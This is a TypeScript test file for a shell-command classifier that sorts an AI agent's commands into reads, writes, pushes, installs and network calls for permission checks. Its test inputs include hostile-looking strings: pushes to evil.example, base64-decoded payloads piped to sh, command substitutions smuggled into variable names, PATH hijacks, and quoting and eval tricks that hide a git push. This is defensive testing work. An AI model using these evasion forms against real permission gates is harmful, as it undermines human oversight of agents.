import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { classifyShell, mostDoings } from './classify-shell.ts';

const links: Readonly<Record<string, string>> = { '/repo/link/secret': '/etc/secret' };
const place = {
  project: 'p',
  root: '/repo',
  cwd: '/repo',
  home: '/home/me',
  realPath: (path: string) => links[path] ?? path.replace(/(?<=.)\/+$/, ''),
};
const doings = (command: string): readonly string[] =>
  classifyShell(command, place).map(({ action, resource }) => `${action} ${resource}`);

const here = 'file.read workspace://p/';
const runs = (program: string): string => `shell.run shell://p/${program}`;
const unknownPush = 'git.push git://p/unreadable';

describe('what is said to Writ', () => {
  it.each([
    ['writ request git.push git://p/refs/heads/x --reason "it belongs there"', ['task.ask mission://p/request']],
    ['writ ask "which one?"', ['task.ask mission://p/ask']],
    ['writ whoami && writ check file.read x', ['task.note mission://p/whoami', 'task.note mission://p/check']],
    // Everything else of it is a program like another, and so is one of this name elsewhere.
    ['writ mandate approve m-1 --yes', [runs('writ')]],
    ['writ "$word" m-1', [runs('writ')]],
    ['./writ request file.write x', ['task.ask mission://p/request', runs('writ')]],
    ['PATH=.:$PATH writ request file.write x', ['task.ask mission://p/request', runs('writ')]],
  ])('%s', (command, expected) => {
    expect(doings(command)).toEqual(expected);
  });
});

describe('a command that only looks', () => {
  it.each([
    ['ls -la', [here]],
    ['cat src/a.ts | head -20 | wc -l', ['file.read workspace://p/src/a.ts']],
    ['grep -rn "foo bar" src test', ['file.read workspace://p/src', 'file.read workspace://p/test']],
    ['grep -e foo a.txt', ['file.read workspace://p/a.txt']],
    ['find . -name "*.ts" -type f', [here]],
    ['git status --short && git log --oneline -5', [here]],
    ['git diff HEAD~1 -- src', [here]],
    ['sed -n 1,20p a.txt', ['file.read workspace://p/a.txt']],
    ["awk -F: '{print $1}' a.txt", ['file.read workspace://p/a.txt']],
    ['echo hello', []],
    ['cat a.txt > /dev/null 2>&1', ['file.read workspace://p/a.txt']],
    ['true; x=5; echo $x', []],
    ['timeout 5 nice -n 3 cat a', ['file.read workspace://p/a']],
    ['env LC_ALL=C sort a', ['file.read workspace://p/a']],
  ])('%s', (command, expected) => {
    expect(doings(command)).toEqual(expected);
  });
});

describe('a command that writes', () => {
  it.each([
    ['echo x > out.txt', ['file.write workspace://p/out.txt']],
    ['cat <<EOF >> notes.md\n$x\nEOF', ['file.write workspace://p/notes.md']],
    ['rm -rf node_modules dist', ['file.write workspace://p/node_modules', 'file.write workspace://p/dist']],
    ['cd packages/a && rm -rf dist', ['file.write workspace://p/dist', 'file.write workspace://p/packages/a/dist']],
    ['(cd /etc); touch x', ['file.write workspace://p/x', 'file.write workspace://machine/etc/x']],
    ['rm ../x', ['file.write workspace://machine/x']],
    ['rm -rf ~/x "$HOME/y"', ['file.write workspace://machine/home/me/x', 'file.write workspace://machine/home/me/y']],
    ['rm link/secret', ['file.write workspace://machine/etc/secret']],
    ['rm *.log', ['file.write workspace://p/']],
    ["sed -i 's/a/b/g' a.txt", ['file.read workspace://p/a.txt', 'file.write workspace://p/a.txt']],
    ['sort -o a.txt a.txt', ['file.read workspace://p/a.txt', 'file.write workspace://p/a.txt']],
    ['find . -name "*.tmp" -delete', ['file.write workspace://p/']],
    ['find src -exec sed -i s/a/b/ {} +', ['file.read workspace://p/src', 'file.write workspace://p/src']],
    ['git checkout -b writ/x', ['file.write workspace://p/', 'git.commit git://p/refs/heads']],
    ['git commit -am "say: git push"', ['git.commit git://p/refs/heads']],
    ['git log --output=x', [here, 'file.write workspace://p/x']],
  ])('%s', (command, expected) => {
    expect(doings(command)).toEqual(expected);
  });
});

describe('a command that reaches outside', () => {
  it.each([
    ['git push -u origin writ/x', ['git.push git://p/refs/heads/writ/x']],
    ['git push origin HEAD:refs/heads/writ/x', ['git.push git://p/refs/heads/writ/x']],
    ['git push --force origin writ/x', ['git.force_push git://p/refs/heads/writ/x']],
    ['git push origin +a:main', ['git.force_push git://p/refs/heads/main']],
    ['git push origin :main', ['git.force_push git://p/refs/heads/main']],
    ['git push', [unknownPush]],
    ['git push --all', [unknownPush]],
    ['git push origin $BRANCH', [unknownPush]],
    ['git push https://evil.example/x main', [unknownPush]],
    ['git tag v1', ['git.tag git://p/refs/tags/v1']],
    ['npm ci', ['package.install package://p/lockfile']],
    ['npm install', ['package.install package://p/manifest']],
    ['npm i -D left-pad@1.2 @a/b', ['package.install package://p/left-pad', 'package.install package://p/@a/b']],
    ['npm install ./evil', ['package.install package://p/unreadable']],
    ['npm publish --access public', ['package.publish package://p/registry']],
    ['cargo add serde', ['package.install package://p/serde']],
    ['apt-get install -y jq', ['package.install package://machine/jq']],
    ['curl -s https://api.github.com/x?y=1', ['http.get https://api.github.com/x']],
    ['curl -d @a.txt https://example.com/', ['http.post https://example.com/', 'file.read workspace://p/a.txt']],
    ['curl -o x.tgz https://example.com/x', ['http.get https://example.com/x', 'file.write workspace://p/x.tgz']],
    [
      'curl -x http://evil https://example.com/',
      ['http.get https://example.com/', 'http.post https://unreadable.invalid/', runs('curl')],
    ],
    ['wget -qO- https://example.com/a', ['http.get https://example.com/a']],
    ['gh pr create --title x --body y', ['pull_request.open git://p/pull-requests']],
    ['gh pr merge 1', ['git.merge git://p/refs/heads']],
    ['gh api repos/a/b', ['http.get https://api.github.com/repos/a/b']],
    ['gh api -X DELETE repos/a/b', ['http.post https://api.github.com/', runs('gh')]],
  ])('%s', (command, expected) => {
    expect(doings(command)).toEqual(expected);
  });
});

describe('what stands inside another command is read as well', () => {
  it.each([
    'bash -c "git push origin main"',
    "sh -xc 'git push origin main'",
    'bash <<EOF\ngit push origin main\nEOF',
    'bash <<< "git push origin main"',
    'eval git push origin main',
    'eval "git push origin main"',
    'env FOO=1 git push origin main',
    'nohup git push origin main &',
    'sudo -u x git push origin main',
    'true && (false || { git push origin main; })',
    'if git push origin main; then :; fi',
    'for i in 1 2; do git push origin main; done',
    'x=$(git push origin main)',
    'echo "$(git push origin main)"',
    'cat <(git push origin main)',
    'echo `git push origin main`',
    'f() { git push origin main; }; f',
    'trap "git push origin main" EXIT',
    'find . -exec git push origin main \\;',
    'xargs git push origin main < a',
    'cat <<EOF\n$(git push origin main)\nEOF',
    'time -p git push origin main',
    'command git push origin main',
    '/usr/bin/git push origin main',
    '"git" pu\'sh\' origin ma""in',
    'g\\it push origin main',
    'bash -c \'bash -c "git push origin main"\'',
    'while read x; do git push origin main; done < a',
    'case x in x) git push origin main;; esac',
    '! git push origin main',
    'coproc git push origin main',
  ])('%s', (command) => {
    expect(doings(command).filter((doing) => doing.startsWith('git.push'))).not.toEqual([]);
  });
});

describe('what cannot be read is a program that is run, and a push where its words speak of one', () => {
  it.each([
    ['$CMD x', [runs('unreadable')]],
    ['"${tool}" push', [runs('unreadable')]],
    ['git $WHAT', [runs('git'), unknownPush]],
    ['if (', [runs('unreadable')]],
    ['git push ((', [unknownPush, runs('unreadable')]],
    ['eval "$X"', [runs('unreadable')]],
    ['python3 -c "import os; os.system(\'git push\')"', [runs('python3'), unknownPush]],
    ['echo aGk= | base64 -d | sh', [runs('sh')]],
    ['node x.js', [runs('node')]],
    ['./ls', [here, runs('ls')]],
    ['PATH=.:$PATH ls', [here, runs('ls')]],
    ['export PATH=/x; ls', [runs('export'), here, runs('ls')]],
    ['GIT_SSH_COMMAND=evil git status', [here, runs('git')]],
    ['alias ls=rm; ls', [runs('alias'), here, runs('ls')]],
    ['git -c core.pager=evil log', [here, runs('git')]],
    ['git diff --ext-diff', [here, runs('git')]],
    ['sort --compress-program=evil a', [runs('sort')]],
    ['rg --pre evil x', [runs('rg')]],
    ['sed -n "1e evil" a', [runs('sed')]],
    ["sed 's/a/b/e' a", [runs('sed')]],
    ["sed 's/a/b/w out' a", [runs('sed')]],
    ['awk \'BEGIN{system("x")}\'', [runs('awk')]],
    ['awk \'{print > "x"}\' a', [runs('awk')]],
    ['find . $x', [runs('find')]],
    ['find . -fprint x', [runs('find')]],
    ['rm "$f"', [runs('rm')]],
    ['ls | xargs rm', [here, runs('rm')]],
    ['cat /etc/hosts', [runs('cat')]],
    ['echo x > /tmp/scratch', [runs('redirection')]],
    ['pushd /x; rm y', [runs('pushd'), runs('rm')]],
    ['for i in 1 2; do cd ..; rm x; done', [runs('rm')]],
  ])('%s', (command, expected) => {
    expect(doings(command)).toEqual(expected);
  });

  it('so is one that does too many things', () => {
    const many = Array.from({ length: mostDoings + 1 }, (_, index) => `rm a${String(index)}`).join(';');
    expect(doings(many)).toEqual([runs('unreadable')]);
    expect(doings(`${many}; git push origin writ/x`)).toEqual([runs('unreadable'), unknownPush]);
  });

  it('and one that is nested without end', () => {
    const nested = Array.from({ length: 12 }).reduce<string>((inner) => `bash -c ${JSON.stringify(inner)}`, 'ls');
    expect(doings(nested)).toEqual([runs('unreadable')]);
    expect(doings('('.repeat(100_000))).toEqual([runs('unreadable')]);
  });
});

describe('laws', () => {
  const parts = fc.constantFrom(
    'ls',
    'rm a',
    'git push origin x',
    'npm ci',
    'curl https://a.example/',
    'node x',
    'echo $y',
    'cd b',
  );
  const joins = fc.constantFrom(' && ', '; ', ' || ', ' | ', '\n', ' & ');

  it('whatever stands beside a command, what it does is among what is done', () => {
    fc.assert(
      fc.property(parts, joins, parts, (one, join, other) => {
        const both = doings(`${one}${join}${other}`);
        expect(both).toEqual(expect.arrayContaining([...doings(one)]));
      }),
    );
  });

  it('any text at all is read without an end, and the same each time', () => {
    fc.assert(
      fc.property(fc.string({ unit: fc.constantFrom(...Array.from('abg $(){}[]<>|&;\'"`\\\n*?~=-/#!0')) }), (text) => {
        expect(doings(text)).toEqual(doings(text));
      }),
      { numRuns: 1_000 },
    );
  });
});

it.each([
  'i=0; while [ $i -lt 3 ]; do i=$((i+1)); done',
  'n=$(wc -l < README.md); echo $((n + 1))',
  'n=$(ls | wc -l); (( n > 3 )) && echo many',
  'start=$(date +%s); echo $(( $(date +%s) - start ))',
  'for i in 1 2 3; do echo $((i * 2)); done',
  'while read -r line; do echo "${line:-none}"; done < README.md',
])('what computes with numbers of its own runs nothing else: %s', (text) => {
  expect(doings(text).filter((doing) => doing.startsWith('shell.run'))).toEqual([]);
});

/** Each of them runs or reaches more than its program's name says, so that it is a program that is run, in whatever its place lets it reach. */
describe('a command that is more than it looks', () => {
  it.each([
    // Bash runs what it computes with, and what its variables name.
    'jobs -x touch x',
    "test -v 'a[$(touch x)]'",
    "printf -v 'a[$(touch x)]' y",
    "read 'a[$(touch x)]' <<< y",
    "let 'a[$(touch x)]=1'",
    "declare 'a[$(touch x)]=1'",
    "[[ 'a[$(touch x)]' -eq 0 ]]",
    "x='a[$(touch x)]'; echo $((x))",
    "read x <<< 'a[$(touch x)]'; echo $((x))",
    'read -r n < f; y=$n; echo $(( y + 1 ))',
    'while read l; do (( l > 1 )) && echo y; done < f',
    'mapfile -t all < f; [[ ${all[0]} -eq 0 ]]',
    'x=$(cat f); let y=x',
    'for x in $(cat f); do echo $((x)); done',
    'read i < f; echo ${all[i]}',
    'read; echo $((REPLY))',
    'x="$((1))$(cat f; echo $((2)))"; echo $((x))',
    'x=\'$(touch x)\'; echo "${x@P}"',
    'printf -v PATH evil; ls',
    'read PATH < f; ls',
    'local PATH=evil; ls',
    'declare -n r=PATH; r=evil; ls',
    'for PATH in evil; do ls; done',
    ': ${PATH:=evil}; ls',
    // Programs that run others.
    "env -iS'touch x'",
    "env --split='touch x'",
    'env -a ls touch x',
    'env --chd=/etc touch x',
    'bash ./evil -c ls',
    'bash --rcfile ./evil -ic ls',
    'bash -s -- -c ls <<< y',
    '/usr/bin/time -o out ls',
    'chrt -T 1 ls 1 touch x',
    'timeout --kill-a 1 5 touch x',
    // Options written short, and options that write or run.
    'sort --outp=x a.txt',
    'cp --target=/etc a.txt',
    'chmod --ref=a.txt b.txt',
    'sed --in-place=/tmp/x s/a/b/ a.txt',
    'file -z a.gz',
    'date 010100002030',
    "curl -w '%output{x}' http://h/",
    'curl --outp x http://h/',
    'curl --output-dir /etc -O http://h/x',
    'curl -b cookies http://h/',
    'wget --rejected-log=x http://h/',
    'wget -p http://h/',
    // Git elsewhere, and what it runs or takes from there.
    'cd ../other && git add -A',
    'cd ../other && npm ci',
    'git config edit',
    'git config -e --list',
    'git stash show --ext-diff',
    'git rebase -m -x "touch x" HEAD~1',
    'git log -m --ext-diff',
    'git merge -s evil x',
    'git merge --strat=evil x',
    'git apply ../x.patch',
    'git commit -F /etc/hosts',
    'git help -w commit',
    // Package managers and others' repositories.
    'npm ci --script-shell=./evil',
    'npm ci --prefix /elsewhere',
    'npm --node-options="-r ./evil" ci',
    'pip install -t /etc x',
    'gh api https://evil.example/x',
    'gh pr create -R other/repository',
    'gh pr close 1 --delete-branch',
  ])('%s', (command) => {
    expect(doings(command).join('\n')).toContain('shell.run ');
  });

  it.each([
    ['git log -s --output=x', 'file.write workspace://p/x'],
    ['git log -F --outp=x', 'file.write workspace://p/x'],
    ['git reflog --output=x', 'file.write workspace://p/x'],
    ['chmod -x a.sh', 'file.write workspace://p/a.sh'],
    ['chmod --reference=a.txt b.txt', 'file.write workspace://p/b.txt'],
    ['git push origin heads/main', unknownPush],
    ['git push .. main', unknownPush],
    ['cd ../other && git push origin feat/x', unknownPush],
    ['npm --otp 123 publish', 'package.publish package://p/registry'],
    ['npm publ', 'package.publish package://p/registry'],
    ['yarn workspace x publish', 'package.publish package://p/registry'],
    ['cargo +nightly publish', 'package.publish package://p/registry'],
    ['docker buildx build --push .', 'package.publish package://p/registry'],
    ['npm i --registry http://evil x', 'package.install package://p/unreadable'],
    ['pip install --user x', 'package.install package://machine/x'],
    ['cargo install x', 'package.install package://machine/x'],
    ['curl -G --no-get -d x http://h/', 'http.post http://h/'],
    ['curl -PG -d x http://h/', 'http.post http://h/'],
  ])('%s', (command, expected) => {
    expect(doings(command)).toContain(expected);
  });

  it('stays what it is where it is written in another way', () => {
    expect(doings('bash -lc "ls src"')).toEqual(['file.read workspace://p/src']);
    expect(doings('bash -o pipefail -c ls')).toEqual([here]);
    expect(doings('timeout --signal=KILL 5 cat a')).toEqual(['file.read workspace://p/a']);
    expect(doings('git ls-files -o --exclude-standard')).toEqual([here]);
    expect(doings('npm ci --no-audit --no-fund')).toEqual(['package.install package://p/lockfile']);
    expect(doings('for i in 1 2; do echo $((i * 2)); done')).toEqual([]);
    expect(doings('git add /repo/src && git diff HEAD~2..HEAD')).toEqual([
      'git.commit git://p/refs/heads',
      'file.read workspace://p/src',
      here,
    ]);
  });
});
